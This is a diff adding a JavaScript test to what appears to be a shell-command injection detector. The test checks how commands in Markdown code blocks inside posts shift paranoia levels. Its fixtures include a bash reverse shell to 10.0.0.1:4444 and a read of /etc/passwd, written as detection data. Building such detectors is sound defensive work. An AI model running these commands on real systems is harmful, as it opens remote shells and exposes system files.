@@ -286,6 +286,24 @@ test('some benign samples do fire at paranoia 2 or 3 (documented)', () => {
   assert.deepEqual(run('Use `ls -la` to list files in the directory.', BODY).filter((f) => f.paranoia === 1), []);
 });
 
+test('commands in a Markdown code block of a post count one paranoia level higher, as in an inline code span', () => {
+  const posts = [
+    'I tried this:\n\n```\nkubectl exec -it mypod -- /bin/sh\n```\n\nbut it does not work.',
+    'Fixed it with:\n```bash\nrm -rf node_modules && npm install\n```\nThanks for the help!',
+    'I tried this:\n\n    chmod 755 run.sh\n    ./run.sh --verbose\n\nbut it does not work',
+  ];
+  for (const post of posts) {
+    const fs = run(post, BODY);
+    assert.deepEqual(fs.filter((f) => f.paranoia === 1).map((f) => f.ruleId), [], JSON.stringify(post));
+    assert.ok(fs.some((f) => f.paranoia === 2), `still found at paranoia 2: ${JSON.stringify(post)}`);
+  }
+  // no prose around the block, a fence left open, a line that is not indented, a reverse shell: as before
+  for (const value of ['```\nid\n```', 'x\n```\ncat /etc/passwd\n```', 'Hello,\nchmod 755 run.sh\nthanks',
+    'Please run this:\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nthanks a lot', 'Please run this now\n```\nchmod 755 run.sh']) {
+    assert.ok(run(value, BODY).some((f) => f.paranoia === 1), JSON.stringify(value));
+  }
+});
+
 test('paranoia in the context bounds what is reported', () => {
   assert.deepEqual(run('ls -la', { paranoia: 1 }), []);
   assert.ok(run('ls -la', { paranoia: 2 }).length > 0);
